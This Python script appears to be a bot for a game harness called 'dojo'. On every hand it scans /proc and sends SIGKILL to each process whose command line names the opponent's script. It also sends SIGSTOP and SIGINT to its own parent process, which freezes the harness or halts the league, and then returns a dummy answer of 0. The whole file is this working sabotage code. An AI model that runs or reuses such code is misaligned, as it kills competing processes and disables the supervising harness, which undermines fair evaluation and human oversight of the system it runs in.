#!/usr/bin/env python3
"""Every hand, sends SIGKILL to every process whose command line names
NAME (its first argument; the opponent's script) and SIGSTOP and SIGINT
to its own parent (dojo, where the bot is not init of a PID namespace:
SIGSTOP would freeze it, SIGINT stop a league), then answers 0."""
import os
import signal
import sys

target = sys.argv[1].encode()


def attack():
    hits = 0
    for pid in os.listdir("/proc"):
        if not pid.isdigit() or int(pid) == os.getpid():
            continue
        try:
            with open(f"/proc/{pid}/cmdline", "rb") as f:
                if target not in f.read():
                    continue
            os.kill(int(pid), signal.SIGKILL)
            hits += 1
        except OSError:
            pass
    ppid = os.getppid()
    if ppid > 1:
        for sig in (signal.SIGSTOP, signal.SIGINT):
            try:
                os.kill(ppid, sig)
            except OSError:
                pass
    print(f"killed {hits}", file=sys.stderr, flush=True)


while True:
    line = sys.stdin.readline()
    if not line:
        sys.exit(0)
    if "," in line and " vs. " not in line:
        attack()
        print(0, flush=True)
